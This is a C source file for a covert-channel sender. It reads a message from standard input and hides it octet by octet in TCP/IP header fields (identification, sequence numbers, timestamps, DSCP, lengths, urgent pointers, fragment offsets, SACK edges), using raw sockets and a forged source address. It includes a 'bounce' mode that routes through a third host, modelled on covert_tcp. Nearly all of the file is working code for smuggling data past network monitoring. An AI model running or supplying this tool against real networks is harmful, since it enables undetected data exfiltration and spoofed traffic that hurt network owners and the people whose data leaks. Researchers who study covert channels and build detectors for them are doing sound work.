/* `headers CHANNEL SOURCE TARGET PORT PACE_MS SEED < message`: a message in fields of headers, in
 * packets made whole here. One octet, or as many as the field holds, a packet.
 *
 * CHANNEL  id        identification = octet << 8, in SYNs            (as covert_tcp)
 *          seq       sequence = octet << 24, in SYNs                 (as covert_tcp)
 *          bounce    the sequence of a SYN that a third host acknowledges to TARGET (as covert_tcp)
 *          tsval     the two low bits of the time stamps of an idle connection's ACKs
 *          dscp      six bits in the traffic class of datagrams like a steady stream's
 *          length    octet + 40 is the length of datagrams
 *          urg       the urgent pointer of ACKs without URG
 *          frag      octet in the offset of lone last fragments
 *          rawid     identification as it is, enciphered, two octets a datagram
 *          sack      the edges of selective acknowledgements, four octets each
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int raw;
static uint32_t from, to, state;
static uint8_t packet[1600];

static uint32_t draw(void) { state ^= state << 13; state ^= state >> 17; return state ^= state << 5; }

static uint16_t sum(const uint8_t *data, int size, uint32_t total) {
    for (int i = 0; i < size; i++) total += i & 1 ? data[i] : data[i] << 8;
    while (total >> 16) total = (total & 0xffff) + (total >> 16);
    return ~total;
}

static void put16(int at, uint16_t v) { packet[at] = v >> 8; packet[at + 1] = v; }
static void put32(int at, uint32_t v) { put16(at, v >> 16); put16(at + 2, v); }

/* Fill in the IP header and the checksums and send `size` octets of transport header and data. */
static void out(int proto, int tos, int id, int frag, int size, int sum_at) {
    packet[0] = 0x45; packet[1] = tos;
    put16(2, 20 + size); put16(4, id); put16(6, frag);
    packet[8] = 64; packet[9] = proto; put16(10, 0);
    memcpy(packet + 12, &from, 4); memcpy(packet + 16, &to, 4);
    if (sum_at) {
        uint32_t start = proto + size;
        for (int i = 12; i < 20; i += 2) start += packet[i] << 8 | packet[i + 1];
        put16(20 + sum_at, 0);
        put16(20 + sum_at, sum(packet + 20, size, start));
    }
    put16(10, sum(packet, 20, 0));
    struct sockaddr_in whom = {.sin_family = AF_INET, .sin_addr.s_addr = to};
    sendto(raw, packet, 20 + size, 0, (void *)&whom, sizeof whom);
}

static void tcp(int sport, int dport, uint32_t seq, uint32_t ack, int flags, int id, int urgent, const uint8_t *options, int size) {
    memset(packet + 20, 0, 60);
    put16(20, sport); put16(22, dport); put32(24, seq); put32(28, ack);
    packet[32] = (20 + size) << 2; packet[33] = flags; put16(34, 502); put16(38, urgent);
    memcpy(packet + 40, options, size);
    out(6, 0, id, 0x4000, 20 + size, 16);
}

static void udp(int sport, int dport, int tos, int id, int size) {
    put16(20, sport); put16(22, dport); put16(24, 8 + size); put16(26, 0);
    for (int i = 0; i < size; i++) packet[28 + i] = i < 12 ? (i * 7) : draw();
    out(17, tos, id, id ? 0 : 0x4000, 8 + size, 6);
}

int main(int argc, char **argv) {
    const char *channel = argv[1];
    int port = atoi(argv[4]), sport = 20000 + atoi(argv[6]) % 30000, got;
    useconds_t pace = atoi(argv[5]) * 1000;
    uint8_t message[4096];
    inet_pton(AF_INET, argv[2], &from);
    inet_pton(AF_INET, argv[3], &to);
    state = atoi(argv[6]) | 1;
    raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    got = fread(message, 1, sizeof message - 8, stdin);
    uint32_t seq = draw(), ack = draw(), clock = draw() >> 4;
    const uint8_t none[1] = {0};
    for (int i = 0; i < got;) {
        uint8_t c = message[i];
        if (!strcmp(channel, "id")) tcp(1 + draw() % 10000, port, 1 + draw() % 10000, 0, 2, c << 8, 0, none, 0), i++;
        else if (!strcmp(channel, "seq")) tcp(1 + draw() % 10000, port, (uint32_t)c << 24, 0, 2, draw() % 255 << 8, 0, none, 0), i++;
        else if (!strcmp(channel, "bounce")) tcp(port, port, (uint32_t)c << 24, 0, 2, draw(), 0, none, 0), i++;
        else if (!strcmp(channel, "tsval")) {
            for (int k = 0; k < 8; k += 2) {
                clock += 240 + draw() % 60;
                uint32_t stamp = (clock & ~3u) | (c >> k & 3);
                uint8_t o[12] = {1, 1, 8, 10, stamp >> 24, stamp >> 16, stamp >> 8, stamp, ack >> 24, 0x11, 0x5a, i};
                tcp(sport, port, seq, ack, 16, draw(), 0, o, 12);
                usleep(pace);
            }
            i++;
        } else if (!strcmp(channel, "dscp")) {
            udp(sport, port, (c >> 4) << 2, 0, 160); usleep(pace); udp(sport, port, (c & 15) << 2, 0, 160); i++;
        } else if (!strcmp(channel, "length")) udp(sport, port, 0, 0, c + 40), i++;
        else if (!strcmp(channel, "urg")) tcp(sport, port, seq, ack, 16, draw(), c << 8 | message[i + 1], none, 0), i += 2;
        else if (!strcmp(channel, "frag")) { memset(packet + 20, 0x2e, 32); out(17, 0, draw(), 64 + c, 32, 0); i++; }
        else if (!strcmp(channel, "rawid")) udp(sport, port, 0, (c << 8 | message[i + 1]) ^ (0x1357 * (i + 1) & 0xffff) | 1, 48), i += 2;
        else if (!strcmp(channel, "sack")) {
            uint8_t o[12] = {1, 1, 5, 10};
            memcpy(o + 4, message + i, 8);
            tcp(sport, port, seq, ack, 16, draw(), 0, o, 12); i += 8;
        } else return 2;
        usleep(pace / 2 + draw() % (pace + 1));
    }
}
